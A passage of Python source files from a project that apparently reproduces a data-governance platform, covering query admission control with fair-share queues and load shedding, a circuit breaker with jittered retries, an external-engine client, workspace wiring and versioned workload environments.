        the ticket joins a queue, so callers can expose it for
        cancellation from other threads while this thread blocks.

        Raises :class:`~repro.errors.AdmissionError` (retryable, with
        ``retry_after``) on rate limiting, backpressure, load shedding,
        queue timeout or cancellation, and
        :class:`~repro.common.context.QueryDeadlineExceeded` when the
        query's deadline cannot be met.
        """
        tenant = tenant or user
        now = self._clock.now()
        ticket = AdmissionTicket(
            tenant=tenant, lane=lane, user=user, manager=self, enqueued_at=now
        )
        if lane == LANE_SYSTEM:
            # Introspection reads stay admitted even under full saturation:
            # operators must be able to look at an overloaded cluster.
            with self._lock:
                self.system_bypass += 1
            ticket.slotless = True
            ticket.state = TICKET_ADMITTED
            ticket.admitted_at = now
            return ticket

        with self._ready:
            state = self._tenant_locked(tenant)
            self._check_rate_locked(state, now)
            est_wait = self._estimated_wait_locked()
            self._check_deadline_locked(query_ctx, est_wait, where="admission")
            if self._queued_total == 0 and self._slots_in_use < self.total_slots \
                    and not state.over_budget():
                self._dispatch_ticket_locked(ticket, state)
                return ticket
            self._enqueue_locked(ticket, state, est_wait)
            if on_enqueued is not None:
                on_enqueued(ticket)
            self._schedule_locked()
            deadline = None
            if query_ctx is not None and query_ctx.deadline is not None:
                deadline = query_ctx.deadline
            timeout_at = now + self.admission_timeout
            while ticket.state == TICKET_QUEUED:
                wait_for = timeout_at - self._clock.now()
                if deadline is not None:
                    wait_for = min(wait_for, deadline - self._clock.now())
                if wait_for <= 0 or not self._ready.wait(timeout=max(wait_for, 0.001)):
                    if ticket.state != TICKET_QUEUED:
                        break
                    wall = self._clock.now()
                    if deadline is not None and wall >= deadline:
                        self._remove_queued_locked(ticket)
                        ticket.state = TICKET_CANCELLED
                        self.rejected_deadline += 1
                        self._counter("deadline_rejections")
                        raise QueryDeadlineExceeded(
                            f"deadline elapsed while queued for admission "
                            f"(tenant '{tenant}')"
                        )
                    if wall >= timeout_at:
                        self._remove_queued_locked(ticket)
                        ticket.state = TICKET_CANCELLED
                        self.timeouts += 1
                        self._counter("admission_timeouts")
                        raise AdmissionError(
                            f"tenant '{tenant}' spent more than "
                            f"{self.admission_timeout:.1f}s in the admission "
                            f"queue",
                            retry_after=self._estimated_wait_locked(),
                            reason="timeout",
                        )
            if ticket.state == TICKET_ADMITTED:
                state.queue_wait_seconds_total += ticket.queue_wait
                self._telemetry.histogram(
                    f"workload.{self.name}.queue_wait_seconds"
                ).observe(ticket.queue_wait)
                return ticket
            failure = ticket.failure or AdmissionError(
                f"query for tenant '{tenant}' left the admission queue "
                f"in state {ticket.state}",
                reason="shed",
            )
            raise failure

    def _check_rate_locked(self, state: _TenantState, now: float) -> None:
        rate = state.policy.rate_per_second
        if rate is None or rate <= 0:
            return
        elapsed = max(0.0, now - state.tokens_refilled_at)
        state.tokens = min(
            float(state.policy.burst), state.tokens + elapsed * rate
        )
        state.tokens_refilled_at = now
        if state.tokens >= 1.0:
            state.tokens -= 1.0
            return
        retry_after = (1.0 - state.tokens) / rate
        state.rejected += 1
        self.rejected_rate_limited += 1
        self._counter("rate_limited")
        raise AdmissionError(
            f"tenant '{state.name}' exceeded its rate of {rate:g} "
            f"queries/second",
            retry_after=retry_after,
            reason="rate_limited",
        )

    def _check_deadline_locked(
        self, query_ctx: QueryContext | None, est_wait: float, where: str
    ) -> None:
        if query_ctx is None:
            return
        remaining = query_ctx.remaining()
        if remaining is None:
            return
        if remaining <= 0 or est_wait > remaining:
            self.rejected_deadline += 1
            self._counter("deadline_rejections")
            raise QueryDeadlineExceeded(
                f"estimated queue wait {est_wait:.3f}s exceeds the "
                f"remaining deadline {max(remaining, 0.0):.3f}s at {where}"
            )

    def _estimated_wait_locked(self) -> float:
        """Expected queue wait for a new arrival, from the service EWMA."""
        if self._queued_total == 0 and self._slots_in_use < self.total_slots:
            return 0.0
        backlog = self._queued_total + 1
        return backlog * self._avg_service_seconds / self.total_slots

    # -- queueing -------------------------------------------------------------------

    def _enqueue_locked(
        self, ticket: AdmissionTicket, state: _TenantState, est_wait: float
    ) -> None:
        if len(state.queue) >= state.policy.max_queue_depth:
            state.rejected += 1
            self.rejected_queue_full += 1
            self._counter("queue_full_rejections")
            raise AdmissionError(
                f"tenant '{state.name}' already has "
                f"{len(state.queue)} queries queued (backpressure)",
                retry_after=max(est_wait, self._avg_service_seconds),
                reason="queue_full",
            )
        if self._queued_total >= self.max_total_queue:
            self._shed_for_locked(ticket, est_wait)
        state.queue.append(ticket)
        if not self.fair_share:
            self._fifo.append(ticket)
        self._queued_total += 1
        self._gauge_depth_locked()

    def _shed_for_locked(
        self, arriving: AdmissionTicket, est_wait: float
    ) -> None:
        """Saturated: shed the lowest-priority queued work — or the arrival."""
        victim = self._lowest_priority_queued_locked()
        arriving_prio = LANE_PRIORITY.get(arriving.lane, 1)
        if victim is not None and LANE_PRIORITY.get(victim.lane, 1) > arriving_prio:
            self._shed_ticket_locked(victim)
            return
        self.shed_total += 1
        self.lane_shed[arriving.lane] = self.lane_shed.get(arriving.lane, 0) + 1
        self._counter("shed")
        raise AdmissionError(
            f"cluster admission queue is saturated "
            f"({self._queued_total} queued); lane '{arriving.lane}' shed",
            retry_after=max(est_wait, self._avg_service_seconds),
            reason="shed",
        )

    def _lowest_priority_queued_locked(self) -> AdmissionTicket | None:
        worst: AdmissionTicket | None = None
        worst_prio = -1
        for state in self._tenants.values():
            for ticket in state.queue:
                prio = LANE_PRIORITY.get(ticket.lane, 1)
                # Among equals shed the newest arrival (least sunk wait).
                if prio > worst_prio or (
                    prio == worst_prio
                    and worst is not None
                    and ticket.enqueued_at > worst.enqueued_at
                ):
                    worst, worst_prio = ticket, prio
        return worst

    def _shed_ticket_locked(self, ticket: AdmissionTicket) -> None:
        self._remove_queued_locked(ticket)
        ticket.state = TICKET_SHED
        ticket.failure = AdmissionError(
            f"queued query for tenant '{ticket.tenant}' was shed to make "
            f"room for higher-priority work",
            retry_after=self._estimated_wait_locked(),
            reason="shed",
        )
        state = self._tenants.get(ticket.tenant)
        if state is not None:
            state.shed += 1
        self.shed_total += 1
        self.lane_shed[ticket.lane] = self.lane_shed.get(ticket.lane, 0) + 1
        self._counter("shed")
        self._ready.notify_all()

    def _remove_queued_locked(self, ticket: AdmissionTicket) -> None:
        state = self._tenants.get(ticket.tenant)
        if state is not None and ticket in state.queue:
            state.queue.remove(ticket)
            self._queued_total -= 1
        if ticket in self._fifo:
            self._fifo.remove(ticket)
        self._gauge_depth_locked()

    # -- dispatch -------------------------------------------------------------------

    def _schedule_locked(self) -> None:
        """Hand free slots to queued tickets in fair-share (or FIFO) order."""
        while self._slots_in_use < self.total_slots:
            picked = self._pick_locked()
            if picked is None:
                return
            ticket, state = picked
            state.queue.remove(ticket)
            if ticket in self._fifo:
                self._fifo.remove(ticket)
            self._queued_total -= 1
            self._gauge_depth_locked()
            self._dispatch_ticket_locked(ticket, state)
            self._ready.notify_all()

    def _pick_locked(self) -> tuple[AdmissionTicket, _TenantState] | None:
        if not self.fair_share:
            # FIFO baseline: strict arrival order, head-of-line blocking on
            # an over-budget tenant included — that is the point.
            if not self._fifo:
                return None
            head = self._fifo[0]
            state = self._tenants[head.tenant]
            if state.over_budget():
                return None
            return head, state
        best: _TenantState | None = None
        for state in self._tenants.values():
            if not state.queue or state.over_budget():
                continue
            if best is None or state.pass_value < best.pass_value:
                best = state
        if best is None:
            return None
        # Within a tenant, higher-priority lanes go first, then FIFO.
        ticket = min(
            best.queue,
            key=lambda t: (LANE_PRIORITY.get(t.lane, 1), t.enqueued_at),
        )
        return ticket, best

    def _dispatch_ticket_locked(
        self, ticket: AdmissionTicket, state: _TenantState
    ) -> None:
        ticket.state = TICKET_ADMITTED
        ticket.admitted_at = self._clock.now()
        state.in_use += 1
        state.admitted += 1
        state.pass_value += state.stride
        self._slots_in_use += 1
        self.admitted_total += 1
        self._counter("admitted")
        self._telemetry.gauge(f"workload.{self.name}.slots_in_use").set(
            self._slots_in_use
        )

    # ------------------------------------------------------------------
    # Lifecycle transitions
    # ------------------------------------------------------------------

    def cancel(self, ticket: AdmissionTicket) -> bool:
        """Interrupt a still-queued ticket: dequeue + release reservation."""
        with self._ready:
            if ticket.state != TICKET_QUEUED:
                return False
            self._remove_queued_locked(ticket)
            ticket.state = TICKET_CANCELLED
            ticket.failure = AdmissionError(
                f"operation for tenant '{ticket.tenant}' was interrupted "
                f"while queued for admission",
                reason="cancelled",
            )
            self.cancelled_total += 1
            self._counter("cancelled")
            self._ready.notify_all()
            return True

    def begin_execution(self, ticket: AdmissionTicket) -> None:
        """Mark the execute stage entering (records slot occupancy timing)."""
        with self._lock:
            if ticket.state == TICKET_ADMITTED and ticket.exec_started_at is None:
                ticket.exec_started_at = self._clock.now()

    def release(self, ticket: AdmissionTicket) -> None:
        """Free the ticket's slot and dispatch the next queued query."""
        with self._ready:
            if ticket.state != TICKET_ADMITTED:
                return
            ticket.state = TICKET_RELEASED
            ticket.released_at = self._clock.now()
            if ticket.slotless:
                return
            state = self._tenants.get(ticket.tenant)
            if state is not None:
                state.in_use = max(0, state.in_use - 1)
            self._slots_in_use = max(0, self._slots_in_use - 1)
            started = ticket.exec_started_at or ticket.admitted_at
            if started is not None:
                service = max(0.0, ticket.released_at - started)
                # EWMA keeps the wait estimator fresh without history.
                if self._avg_service_seconds <= 0.0:
                    self._avg_service_seconds = service
                else:
                    self._avg_service_seconds = (
                        0.8 * self._avg_service_seconds + 0.2 * service
                    )
                self._telemetry.histogram(
                    f"workload.{self.name}.service_seconds"
                ).observe(service)
            self._telemetry.gauge(f"workload.{self.name}.slots_in_use").set(
                self._slots_in_use
            )
            self._schedule_locked()
            self._ready.notify_all()

    @contextmanager
    def execution_slot(self, query_ctx: QueryContext | None) -> Iterator[AdmissionTicket | None]:
        """Execute-stage bracket: marks the admitted slot busy, frees it after.

        When the query never passed admission (internal paths: CTAS inner
        plans, MV refresh, direct backend calls) this is a no-op bracket —
        the admission boundary is the Connect service.
        """
        ticket = getattr(query_ctx, "ticket", None) if query_ctx is not None else None
        if ticket is None:
            self._counter("untracked_executions")
            yield None
            return
        self.begin_execution(ticket)
        try:
            yield ticket
        finally:
            self.release(ticket)

    # ------------------------------------------------------------------
    # Sandbox budget accounting (Dispatcher integration)
    # ------------------------------------------------------------------

    def charge_sandbox(self, tenant: str) -> None:
        """Count one sandbox claim against ``tenant``'s in-flight budget."""
        with self._lock:
            self._tenant_locked(tenant).sandbox_claims += 1
            self._counter("sandbox_claims")

    def release_sandbox(self, tenant: str, count: int = 1) -> None:
        """Return ``count`` sandbox claims to ``tenant``'s budget."""
        with self._ready:
            state = self._tenants.get(tenant)
            if state is not None:
                state.sandbox_claims = max(0, state.sandbox_claims - count)
            # Freed budget may unblock a queued query of this tenant.
            self._schedule_locked()
            self._ready.notify_all()

    # ------------------------------------------------------------------
    # Introspection
    # ------------------------------------------------------------------

    def queue_depth(self, tenant: str | None = None) -> int:
        """Queued queries, for one tenant or in total."""
        with self._lock:
            if tenant is None:
                return self._queued_total
            state = self._tenants.get(tenant)
            return len(state.queue) if state is not None else 0

    def slots_in_use(self) -> int:
        """Currently occupied concurrency slots."""
        with self._lock:
            return self._slots_in_use

    def stats_snapshot(self) -> dict[str, Any]:
        """Flat metrics for ``system.access.workload_stats``."""
        with self._lock:
            wait = self._telemetry.histogram(
                f"workload.{self.name}.queue_wait_seconds"
            )
            snapshot: dict[str, Any] = {
                "total_slots": self.total_slots,
                "slots_in_use": self._slots_in_use,
                "queued_total": self._queued_total,
                "fair_share": int(self.fair_share),
                "admitted_total": self.admitted_total,
                "shed_total": self.shed_total,
                "rejected_rate_limited": self.rejected_rate_limited,
                "rejected_deadline": self.rejected_deadline,
                "rejected_queue_full": self.rejected_queue_full,
                "admission_timeouts": self.timeouts,
                "cancelled_total": self.cancelled_total,
                "system_bypass": self.system_bypass,
                "avg_service_seconds": self._avg_service_seconds,
                "queue_wait_seconds_p50": wait.percentile(50),
                "queue_wait_seconds_p95": wait.percentile(95),
            }
            for lane, count in sorted(self.lane_shed.items()):
                snapshot[f"lane.{lane}.shed"] = count
            for name, state in sorted(self._tenants.items()):
                prefix = f"tenant.{name}"
                snapshot[f"{prefix}.queued"] = len(state.queue)
                snapshot[f"{prefix}.in_use"] = state.in_use
                snapshot[f"{prefix}.sandbox_claims"] = state.sandbox_claims
                snapshot[f"{prefix}.admitted"] = state.admitted
                snapshot[f"{prefix}.shed"] = state.shed
                snapshot[f"{prefix}.rejected"] = state.rejected
                snapshot[f"{prefix}.weight"] = state.policy.weight
                snapshot[f"{prefix}.queue_wait_seconds_total"] = (
                    state.queue_wait_seconds_total
                )
            return snapshot

    def _counter(self, suffix: str) -> None:
        self._telemetry.counter(f"workload.{self.name}.{suffix}").inc()

    def _gauge_depth_locked(self) -> None:
        self._telemetry.gauge(f"workload.{self.name}.queue_depth").set(
            self._queued_total
        )
