"""Workload scheduling: admission control, fair-share queues, breakers.

The scheduler package sits between the Spark Connect service and the
enforcement pipeline. :mod:`repro.scheduler.workload` admits (or rejects)
every query before it runs; :mod:`repro.scheduler.circuit_breaker` keeps
callers of flaky remote backends — the serverless eFGAC gateway above all —
failing fast instead of hanging.
"""

from repro.scheduler.circuit_breaker import (
    STATE_CLOSED,
    STATE_HALF_OPEN,
    STATE_OPEN,
    CircuitBreaker,
    retry_with_backoff,
)
from repro.scheduler.workload import (
    LANE_BATCH,
    LANE_INTERACTIVE,
    LANE_PRIORITY,
    LANE_SYSTEM,
    AdmissionTicket,
    TenantPolicy,
    WorkloadManager,
)

__all__ = [
    "AdmissionTicket",
    "CircuitBreaker",
    "LANE_BATCH",
    "LANE_INTERACTIVE",
    "LANE_PRIORITY",
    "LANE_SYSTEM",
    "STATE_CLOSED",
    "STATE_HALF_OPEN",
    "STATE_OPEN",
    "TenantPolicy",
    "WorkloadManager",
    "retry_with_backoff",
]
