"""Circuit breaking + jittered retries for the serverless eFGAC gateway.

A Dedicated cluster's eFGAC rewrite turns governed scans into remote
subqueries against Serverless Spark. When that gateway is slow or down, a
naive caller hangs until the query deadline expires — for every query. The
classic remedy is a **circuit breaker**: after a run of consecutive
failures the breaker *opens* and subsequent calls fail fast with a
retryable :class:`~repro.errors.CircuitOpenError` carrying ``retry_after``;
after an exponential (and capped) backoff one *half-open* probe is let
through, and a success closes the breaker again.

:func:`retry_with_backoff` is the companion client policy: a bounded number
of retries with exponential backoff and full jitter (seeded, so tests are
deterministic), sleeping on the injected clock so virtual-time tests don't
actually wait.
"""

from __future__ import annotations

import random
import threading
from typing import Any, Callable, TypeVar

from repro.common.clock import Clock, SystemClock
from repro.common.context import QueryDeadlineExceeded, current_context
from repro.common.telemetry import Telemetry
from repro.errors import CircuitOpenError, RetryableError

T = TypeVar("T")

#: Breaker states (also exported numerically in stats for the system table).
STATE_CLOSED = "closed"
STATE_OPEN = "open"
STATE_HALF_OPEN = "half_open"

_STATE_CODE = {STATE_CLOSED: 0, STATE_HALF_OPEN: 1, STATE_OPEN: 2}


class CircuitBreaker:
    """A consecutive-failure circuit breaker with exponential backoff.

    Thread-safe; one instance guards one backend (e.g. the serverless
    gateway's submit/analyze endpoints). While OPEN, :meth:`call` raises
    :class:`CircuitOpenError` without touching the backend; each re-open
    doubles the backoff up to ``max_backoff``, with jitter so a fleet of
    dedicated clusters doesn't re-probe in lockstep.
    """

    def __init__(
        self,
        name: str = "breaker",
        clock: Clock | None = None,
        telemetry: Telemetry | None = None,
        failure_threshold: int = 5,
        base_backoff: float = 1.0,
        max_backoff: float = 30.0,
        jitter: float = 0.2,
        seed: int = 0,
    ):
        self.name = name
        self._clock = clock or SystemClock()
        self._telemetry = telemetry or Telemetry(clock=self._clock)
        self.failure_threshold = max(1, failure_threshold)
        self.base_backoff = base_backoff
        self.max_backoff = max_backoff
        self.jitter = max(0.0, jitter)
        self._rng = random.Random(seed)
        self._lock = threading.Lock()
        self._state = STATE_CLOSED
        self._consecutive_failures = 0
        #: Lifetime opens (stats only; never drives backoff).
        self._open_count = 0
        #: Opens within the *current* outage; drives the backoff exponent
        #: and resets when a success closes the breaker, so a fresh outage
        #: after full recovery starts back at ``base_backoff``.
        self._outage_opens = 0
        self._opened_at = 0.0
        self._current_backoff = 0.0
        self._probe_in_flight = False
        self.calls = 0
        self.failures = 0
        self.fast_failures = 0
        self.probes = 0

    @property
    def state(self) -> str:
        """Current breaker state: ``closed``, ``open``, or ``half_open``."""
        with self._lock:
            self._maybe_half_open_locked()
            return self._state

    def call(self, fn: Callable[[], T]) -> T:
        """Invoke ``fn`` through the breaker, recording success/failure."""
        self._before_call()
        try:
            result = fn()
        except Exception:
            self._on_failure()
            raise
        self._on_success()
        return result

    def _before_call(self) -> None:
        with self._lock:
            self.calls += 1
            self._maybe_half_open_locked()
            if self._state == STATE_OPEN or (
                self._state == STATE_HALF_OPEN and self._probe_in_flight
            ):
                self.fast_failures += 1
                self._counter("fast_failures")
                remaining = max(
                    0.0, self._opened_at + self._current_backoff - self._clock.now()
                )
                raise CircuitOpenError(
                    f"circuit '{self.name}' is open after "
                    f"{self._consecutive_failures} consecutive failures; "
                    f"retry in {remaining:.2f}s",
                    retry_after=remaining,
                )
            if self._state == STATE_HALF_OPEN:
                # Exactly one probe at a time while half-open.
                self._probe_in_flight = True
                self.probes += 1
                self._counter("probes")

    def _maybe_half_open_locked(self) -> None:
        if self._state == STATE_OPEN and (
            self._clock.now() >= self._opened_at + self._current_backoff
        ):
            self._state = STATE_HALF_OPEN
            self._probe_in_flight = False
            self._gauge_state_locked()

    def _on_success(self) -> None:
        with self._lock:
            self._consecutive_failures = 0
            self._probe_in_flight = False
            if self._state != STATE_CLOSED:
                self._state = STATE_CLOSED
                self._current_backoff = 0.0
                self._outage_opens = 0
                self._counter("closed")
                self._gauge_state_locked()

    def _on_failure(self) -> None:
        with self._lock:
            self.failures += 1
            self._consecutive_failures += 1
            was_half_open = self._state == STATE_HALF_OPEN
            self._probe_in_flight = False
            if was_half_open or self._consecutive_failures >= self.failure_threshold:
                self._trip_locked()

    def _trip_locked(self) -> None:
        self._state = STATE_OPEN
        self._open_count += 1
        self._outage_opens += 1
        self._opened_at = self._clock.now()
        base = min(
            self.max_backoff, self.base_backoff * (2 ** (self._outage_opens - 1))
        )
        # Full jitter keeps re-probes from synchronizing across callers.
        spread = base * self.jitter
        self._current_backoff = max(0.0, base + self._rng.uniform(-spread, spread))
        self._counter("opened")
        self._gauge_state_locked()

    def force_open(self, backoff: float | None = None) -> None:
        """Trip the breaker directly (test/ops hook)."""
        with self._lock:
            self._consecutive_failures = max(
                self._consecutive_failures, self.failure_threshold
            )
            self._trip_locked()
            if backoff is not None:
                self._current_backoff = backoff

    def reset(self) -> None:
        """Close the breaker and forget failure history (test/ops hook)."""
        with self._lock:
            self._state = STATE_CLOSED
            self._consecutive_failures = 0
            self._current_backoff = 0.0
            self._outage_opens = 0
            self._probe_in_flight = False
            self._gauge_state_locked()

    def stats_snapshot(self) -> dict[str, Any]:
        """Flat metrics for ``system.access.workload_stats``."""
        with self._lock:
            self._maybe_half_open_locked()
            return {
                "state": _STATE_CODE[self._state],
                "state_name": self._state,
                "calls": self.calls,
                "failures": self.failures,
                "consecutive_failures": self._consecutive_failures,
                "fast_failures": self.fast_failures,
                "open_count": self._open_count,
                "probes": self.probes,
                "current_backoff_seconds": self._current_backoff,
            }

    def _counter(self, suffix: str) -> None:
        self._telemetry.counter(f"breaker.{self.name}.{suffix}").inc()

    def _gauge_state_locked(self) -> None:
        self._telemetry.gauge(f"breaker.{self.name}.state").set(
            _STATE_CODE[self._state]
        )


def retry_with_backoff(
    fn: Callable[[], T],
    clock: Clock | None = None,
    retries: int = 2,
    base_delay: float = 0.05,
    max_delay: float = 1.0,
    jitter: float = 0.5,
    seed: int = 0,
    retry_on: tuple[type[BaseException], ...] = (RetryableError,),
) -> T:
    """Call ``fn``, retrying transient failures with jittered backoff.

    Delays grow exponentially from ``base_delay`` up to ``max_delay`` and
    are multiplied by a uniform jitter factor in ``[1 - jitter, 1]``. A
    :class:`CircuitOpenError` whose ``retry_after`` exceeds the next delay
    is re-raised immediately — waiting out an open breaker inline would
    just hold the caller's deadline hostage.

    Retries are **deadline-aware**: when an ambient
    :class:`~repro.common.context.QueryContext` carries a deadline, a sleep
    that would cross it raises
    :class:`~repro.common.context.QueryDeadlineExceeded` (chained to the
    transient failure) instead of holding the caller's admission slot past
    the point where the result could still be delivered.
    """
    clock = clock or SystemClock()
    rng = random.Random(seed)
    attempt = 0
    while True:
        try:
            return fn()
        except retry_on as exc:
            if attempt >= retries:
                raise
            delay = min(max_delay, base_delay * (2**attempt))
            delay *= 1.0 - rng.uniform(0.0, jitter)
            retry_after = getattr(exc, "retry_after", 0.0)
            if isinstance(exc, CircuitOpenError) and retry_after > delay:
                raise
            wait = max(delay, retry_after)
            qctx = current_context()
            if qctx is not None:
                remaining = qctx.remaining()
                if remaining is not None and wait >= remaining:
                    raise QueryDeadlineExceeded(
                        f"query {qctx.trace_id}: backing off {wait:.3f}s for a "
                        f"retry would cross the deadline "
                        f"({max(0.0, remaining):.3f}s left)"
                    ) from exc
            clock.sleep(wait)
            attempt += 1
