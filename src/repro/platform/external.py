"""External engines using Lakeguard's eFGAC (§3.4, last paragraph).

"eFGAC is not only usable in the context of Databricks clusters but can be
used seamlessly from any external engine like Presto/Trino or other Spark
distributions to enforce data governance."

An :class:`ExternalEngineClient` models such an engine: it holds *no*
storage credentials and receives *no* policy details — it can only submit
Spark Connect relations (SQL or plan messages) to the workspace's governed
serverless endpoint, which enforces everything and returns result rows.
"""

from __future__ import annotations

from repro.catalog.scopes import COMPUTE_EXTERNAL, ComputeCapabilities
from repro.common.ids import new_id
from repro.connect import proto
from repro.platform.serverless import ServerlessGateway


class ExternalEngineClient:
    """A Trino-style engine delegating governed reads to serverless Spark."""

    def __init__(self, gateway: ServerlessGateway, user: str, name: str = "trino"):
        self._gateway = gateway
        self.user = user
        self.name = name
        self.caps = ComputeCapabilities(new_id(f"ext-{name}"), COMPUTE_EXTERNAL)

    # -- the only data path an external engine has -------------------------------

    def query(self, sql: str) -> list[tuple]:
        """Run a SQL query through the governed endpoint; returns rows."""
        schema, columns = self._gateway.submit(self.user, proto.sql_relation(sql))
        return list(zip(*columns)) if columns and columns[0] is not None else []

    def scan_table(self, table: str) -> list[tuple]:
        schema, columns = self._gateway.submit(self.user, proto.read_table(table))
        return list(zip(*columns)) if columns and columns[0] is not None else []

    def table_schema(self, table: str) -> list[dict[str, str]]:
        return self._gateway.analyze(self.user, proto.read_table(table))

    # -- what the engine *cannot* do ------------------------------------------------

    def try_direct_storage_access(self, catalog, table: str):
        """Demonstrates the negative path: no credential is ever vended to
        compute that cannot enforce governance."""
        ctx = catalog.principals.context_for(self.user)
        return catalog.vend_credential(ctx, table, {"READ", "LIST"}, self.caps)
