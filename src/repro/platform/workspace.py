"""A workspace: one catalog, its principals, and its compute fleet.

The facade examples and benchmarks build on. It wires the eFGAC path:
dedicated clusters created here automatically submit governed sub-queries to
the workspace's serverless gateway.
"""

from __future__ import annotations

from typing import Any

from repro.catalog.metastore import UnityCatalog
from repro.common.clock import Clock, SystemClock
from repro.connect.client import SparkConnectClient
from repro.connect.proto import PROTOCOL_VERSION
from repro.platform.clusters import DedicatedCluster, StandardCluster
from repro.platform.serverless import ServerlessGateway
from repro.sandbox.cluster_manager import Backend


class Workspace:
    """One tenant's view of the platform."""

    def __init__(
        self,
        name: str = "workspace",
        clock: Clock | None = None,
        sandbox_backend: Backend = "inprocess",
        store: Any = None,
        store_backend: str = "memory",
        store_dir: str | None = None,
        result_cache_enabled: bool = False,
    ):
        self.name = name
        self.clock = clock or SystemClock()
        self._sandbox_backend = sandbox_backend
        #: ``store`` lets benchmarks model storage latency (an ObjectStore
        #: with ``read_latency_seconds``) without re-wiring the catalog.
        self.catalog = UnityCatalog(clock=self.clock, store=store)
        #: Workspace-level persistence-tier defaults, inherited by every
        #: cluster created here (overridable per cluster).
        self.store_backend = store_backend
        self.store_dir = store_dir
        self.result_cache_enabled = result_cache_enabled
        self._dist_kv: Any = None
        self.clusters: dict[str, Any] = {}
        self._gateway: ServerlessGateway | None = None

    # -- principals -----------------------------------------------------------------

    def add_user(self, name: str, admin: bool = False) -> None:
        self.catalog.principals.add_user(name, admin=admin)

    def add_group(self, name: str, members: list[str] | None = None) -> None:
        self.catalog.principals.add_group(name, members)

    # -- compute ---------------------------------------------------------------------

    @property
    def serverless(self) -> ServerlessGateway:
        if self._gateway is None:
            self._gateway = ServerlessGateway(
                self.catalog,
                clock=self.clock,
                sandbox_backend=self._sandbox_backend,
            )
        return self._gateway

    @property
    def dist_kv(self) -> Any:
        """The workspace-shared simulated distributed KV (lazily created).

        Every cluster created with ``store_backend='distkv'`` in this
        workspace rides the *same* KV instance, so content-addressed
        artifacts (compiled kernels) are shared across the fleet.
        """
        if self._dist_kv is None:
            from repro.store import DistKVTier

            self._dist_kv = DistKVTier()
        return self._dist_kv

    def _store_kwargs(self, kwargs: dict[str, Any]) -> dict[str, Any]:
        """Apply workspace persistence-tier defaults to cluster kwargs."""
        kwargs.setdefault("store_backend", self.store_backend)
        kwargs.setdefault("store_dir", self.store_dir)
        kwargs.setdefault("result_cache_enabled", self.result_cache_enabled)
        if kwargs["store_backend"] == "distkv":
            kwargs.setdefault("dist_kv", self.dist_kv)
        return kwargs

    def create_standard_cluster(self, name: str = "standard", **kwargs: Any) -> StandardCluster:
        """Provision a multi-user Standard cluster in this workspace."""
        cluster = StandardCluster(
            self.catalog,
            name=name,
            clock=self.clock,
            sandbox_backend=kwargs.pop("sandbox_backend", self._sandbox_backend),
            **self._store_kwargs(kwargs),
        )
        self.clusters[name] = cluster
        return cluster

    def create_dedicated_cluster(
        self,
        assigned_user: str | None = None,
        assigned_group: str | None = None,
        name: str = "dedicated",
        **kwargs: Any,
    ) -> DedicatedCluster:
        """Dedicated compute, pre-wired with eFGAC against serverless."""
        gateway = self.serverless
        cluster = DedicatedCluster(
            self.catalog,
            assigned_user=assigned_user,
            assigned_group=assigned_group,
            name=name,
            clock=self.clock,
            remote_submit=gateway.submit,
            remote_analyze=gateway.analyze,
            **self._store_kwargs(kwargs),
        )
        self.clusters[name] = cluster
        return cluster

    def shutdown(self) -> None:
        """Tear down every cluster's pools (idempotent)."""
        for cluster in self.clusters.values():
            cluster.shutdown()

    def connect_serverless(
        self, user: str, client_version: int = PROTOCOL_VERSION,
        config: dict[str, str] | None = None,
    ) -> SparkConnectClient:
        """Connect to the workspace-wide serverless endpoint (Fig. 10)."""
        return SparkConnectClient(
            self.serverless.channel(),
            user=user,
            client_version=client_version,
            config=config,
        )
