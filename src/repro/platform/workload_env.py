"""Versioned Workload Environments (§6.3).

A Workload Environment pins, for a client application, the Databricks
Connect (protocol) version, the Python interpreter version, and the bundled
dependency set — so the *client* keeps a stable surface while the serverless
backend evolves underneath. When user code executes, the platform loads the
session's pinned environment inside the sandbox, not whatever happens to be
on the engine host.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.errors import ConfigurationError


@dataclass(frozen=True)
class WorkloadEnvironment:
    """One immutable environment version."""

    version: str
    client_protocol_version: int
    python_version: str
    #: Bundled dependency pins: name -> version.
    dependencies: dict[str, str] = field(default_factory=dict)

    def is_compatible_with_server(self, server_protocol_version: int) -> bool:
        """Clients never have to be newer than the server (backward compat)."""
        return self.client_protocol_version <= server_protocol_version

    def dependency_version(self, name: str) -> str | None:
        return self.dependencies.get(name)


class WorkloadEnvironmentRegistry:
    """The platform's catalog of supported environment versions."""

    SESSION_CONFIG_KEY = "workload_env"

    def __init__(self) -> None:
        self._environments: dict[str, WorkloadEnvironment] = {}
        self._default: str | None = None

    def register(self, env: WorkloadEnvironment, default: bool = False) -> None:
        self._environments[env.version] = env
        if default or self._default is None:
            self._default = env.version

    def get(self, version: str) -> WorkloadEnvironment:
        """Look up a registered environment version."""
        try:
            return self._environments[version]
        except KeyError:
            raise ConfigurationError(
                f"unknown workload environment '{version}'; "
                f"available: {sorted(self._environments)}"
            ) from None

    def default(self) -> WorkloadEnvironment:
        if self._default is None:
            raise ConfigurationError("no workload environments registered")
        return self._environments[self._default]

    def versions(self) -> list[str]:
        return sorted(self._environments)

    def resolve_for_session(self, session_config: dict[str, str]) -> WorkloadEnvironment:
        """Pick the environment a session pinned (or the default)."""
        version = session_config.get(self.SESSION_CONFIG_KEY)
        if version is None:
            return self.default()
        return self.get(version)


def standard_environments() -> WorkloadEnvironmentRegistry:
    """The environment lineup used by examples and benchmarks."""
    registry = WorkloadEnvironmentRegistry()
    registry.register(
        WorkloadEnvironment(
            version="1.0",
            client_protocol_version=1,
            python_version="3.9",
            dependencies={"numpy": "1.21", "pandas": "1.3"},
        )
    )
    registry.register(
        WorkloadEnvironment(
            version="2.0",
            client_protocol_version=2,
            python_version="3.10",
            dependencies={"numpy": "1.24", "pandas": "1.5"},
        )
    )
    registry.register(
        WorkloadEnvironment(
            version="3.0",
            client_protocol_version=4,
            python_version="3.11",
            dependencies={"numpy": "1.26", "pandas": "2.1"},
        ),
        default=True,
    )
    return registry
