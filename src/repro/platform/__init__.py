"""The Databricks-platform layer (§4, §6): compute types, serverless, envs.

- :mod:`repro.platform.clusters` — Standard (multi-user, sandboxed) and
  Dedicated (single-identity, privileged, eFGAC-routed) compute.
- :mod:`repro.platform.serverless` — the workspace-wide Spark Connect
  gateway: routing, autoscaling, session migration (Fig. 10).
- :mod:`repro.platform.workload_env` — versioned Workload Environments for
  versionless clients (§6.3).
- :mod:`repro.platform.workspace` — one object wiring catalog + compute.
"""

from repro.platform.clusters import ComputeCluster, DedicatedCluster, StandardCluster
from repro.platform.serverless import ServerlessGateway, GatewayChannel
